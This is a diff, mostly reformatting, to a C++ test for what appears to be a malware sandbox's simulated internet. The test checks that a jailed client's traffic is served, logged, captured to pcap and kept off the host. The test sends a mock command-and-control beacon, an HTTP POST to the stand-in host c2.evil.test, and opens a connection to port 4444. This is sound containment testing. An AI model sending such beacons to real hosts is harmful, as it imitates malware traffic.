@@ -3,6 +3,8 @@
 // TLS and UDP to documentation addresses; the test checks what the fake internet logged,
 // that the capture is readable (by our reader and by tshark), and that nothing reached
 // or was left on the host.
+#include "netmon/fake_internet.h"
+
 #include <arpa/inet.h>
 #include <fcntl.h>
 #include <netinet/in.h>
@@ -24,7 +26,6 @@
 #include "frames.h"
 #include "netmon/beacon.h"
 #include "netmon/dns.h"
-#include "netmon/fake_internet.h"
 #include "netmon/packet.h"
 #include "netmon/pcap_file.h"
 #include "privileged.h"
@@ -47,8 +48,9 @@ std::string run(const std::string& cmd) {
 
 // Host state that must be identical before and after.
 std::string host_snapshot() {
-  return run("ip -o link show 2>&1 | sed 's/ qlen.*//' ; ip route show table all 2>&1; ip rule 2>&1; "
-             "ip netns list 2>&1; nft list ruleset 2>&1");
+  return run(
+      "ip -o link show 2>&1 | sed 's/ qlen.*//' ; ip route show table all 2>&1; ip rule 2>&1; "
+      "ip netns list 2>&1; nft list ruleset 2>&1");
 }
 
 int count_netns_fds() {
@@ -123,9 +125,11 @@ std::string resolve_tcp(const char* server, const std::string& name) {
   auto framed = dns::tcp_frame(*dns::build_query(name, dns::kA, 7));
   (void)!write(fd, framed.data(), framed.size());
   std::string r = read_some(fd, 2);
-  if (r.size() >= 2) r += read_some(fd, static_cast<size_t>((uint8_t(r[0]) << 8 | uint8_t(r[1])) + 2 - r.size()));
+  if (r.size() >= 2)
+    r += read_some(fd, static_cast<size_t>((uint8_t(r[0]) << 8 | uint8_t(r[1])) + 2 - r.size()));
   close(fd);
-  auto f = dns::tcp_unframe(std::span<const uint8_t>(reinterpret_cast<const uint8_t*>(r.data()), r.size()));
+  auto f = dns::tcp_unframe(
+      std::span<const uint8_t>(reinterpret_cast<const uint8_t*>(r.data()), r.size()));
   if (!f.ok()) return "bad-frame";
   auto m = dns::parse(f->message);
   return m.ok() && !m->answers.empty() ? m->answers[0].text : "empty";
@@ -145,8 +149,9 @@ std::string jailed_client(uint16_t host_lo_port) {
 
   int h = tcp_connect(c2.c_str(), 80);
   if (h >= 0) {
-    std::string req = "POST /beacon HTTP/1.1\r\nHost: c2.evil.test\r\nUser-Agent: gosandbox-test/1\r\n"
-                      "Content-Length: 3\r\n\r\nabc";
+    std::string req =
+        "POST /beacon HTTP/1.1\r\nHost: c2.evil.test\r\nUser-Agent: gosandbox-test/1\r\n"
+        "Content-Length: 3\r\n\r\nabc";
     (void)!write(h, req.data(), req.size());
     std::string resp = read_some(h, 12);
     out += "http_status=" + resp.substr(0, 12) + "\n";
@@ -231,7 +236,9 @@ TEST_F(FakeInternetTest, JailTrafficIsServedLoggedCapturedAndContained) {
   auto t0 = std::chrono::steady_clock::now();
   auto fi = FakeInternet::make(jail_ns.get(), opts);
   ASSERT_TRUE(fi.ok()) << fi.error().message();
-  auto setup_ms = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0).count();
+  auto setup_ms =
+      std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0)
+          .count();
   jail_ns.reset();
   ASSERT_EQ(write(go[1], "G", 1), 1);
   close(go[1]);
@@ -295,7 +302,8 @@ TEST_F(FakeInternetTest, JailTrafficIsServedLoggedCapturedAndContained) {
   EXPECT_EQ(http->http[0].path, "/beacon");
   EXPECT_EQ(http->http[0].user_agent, "gosandbox-test/1");
   EXPECT_EQ(http->http[0].body_bytes, 3u);
-  EXPECT_EQ(http->http[0].body_sha256, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
+  EXPECT_EQ(http->http[0].body_sha256,
+            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
   EXPECT_GT(http->bytes_in, 0u);
   EXPECT_EQ(tls->tls_sni, "c2.evil.test");
   EXPECT_EQ(tls->tls_alpn, (std::vector<std::string>{"h2", "http/1.1"}));
@@ -321,25 +329,29 @@ TEST_F(FakeInternetTest, JailTrafficIsServedLoggedCapturedAndContained) {
   }
   EXPECT_TRUE(saw_c2);
   EXPECT_EQ(packets, stats.packets_written);
-  std::string tshark = run("tshark -r " + pcap_path + " -T fields -e ip.dst -e tcp.dstport 2>/dev/null");
+  std::string tshark =
+      run("tshark -r " + pcap_path + " -T fields -e ip.dst -e tcp.dstport 2>/dev/null");
   EXPECT_NE(tshark.find("203.0.113.10\t4444"), std::string::npos) << tshark.substr(0, 500);
   bool flow_seen = false;
   for (const auto& f : stats.flows)
-    if (f.key.dst.to_string() == "203.0.113.10" && f.key.dport == 4444 && f.stats.payload_out == 9) flow_seen = true;
+    if (f.key.dst.to_string() == "203.0.113.10" && f.key.dport == 4444 && f.stats.payload_out == 9)
+      flow_seen = true;
   EXPECT_TRUE(flow_seen);
 
-  std::printf("setup %lld ms; %zu dns, %zu connections; pcap %llu packets, %llu bytes, %llu kernel drops\n",
-              static_cast<long long>(setup_ms), rec.dns.size(), rec.connections.size(),
-              static_cast<unsigned long long>(stats.packets_written),
-              static_cast<unsigned long long>(stats.pcap_bytes),
-              static_cast<unsigned long long>(stats.kernel_drops));
+  std::printf(
+      "setup %lld ms; %zu dns, %zu connections; pcap %llu packets, %llu bytes, %llu kernel drops\n",
+      static_cast<long long>(setup_ms), rec.dns.size(), rec.connections.size(),
+      static_cast<unsigned long long>(stats.packets_written),
+      static_cast<unsigned long long>(stats.pcap_bytes),
+      static_cast<unsigned long long>(stats.kernel_drops));
 
   // Nothing leaves, nothing stays.
   fi->reset();
   std::remove(pcap_path.c_str());
   sockaddr_in peer{};
   socklen_t plen = sizeof peer;
-  EXPECT_LT(accept(lo.get(), reinterpret_cast<sockaddr*>(&peer), &plen), 0) << "host loopback got a connection";
+  EXPECT_LT(accept(lo.get(), reinterpret_cast<sockaddr*>(&peer), &plen), 0)
+      << "host loopback got a connection";
   EXPECT_EQ(host_snapshot(), before);
   EXPECT_EQ(count_netns_fds(), netns_fds_before);
   EXPECT_EQ(count_threads(), threads_before);
